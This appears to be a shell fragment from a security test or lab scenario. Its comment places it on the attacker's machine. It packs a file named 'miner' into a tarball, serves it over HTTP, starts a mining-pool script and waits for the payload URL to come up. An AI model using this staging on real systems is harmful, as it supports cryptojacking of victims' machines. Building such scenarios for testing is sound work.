# On the attacker's machine: what the command will load. The command itself goes through the cloud.
mkdir -p "/srv/drop/$WORD" /srv/pack/trace
cp /run/payload/miner "/srv/pack/trace/$NAME"
tar -C /srv/pack -czf "/srv/drop/$WORD/trace.tgz" trace
serve drop python3 -m http.server 80 --directory /srv/drop
serve pool python3 /run/payload/pool.py "$POOL"
wait_for 30 curl -fsS -o /dev/null "$URL"
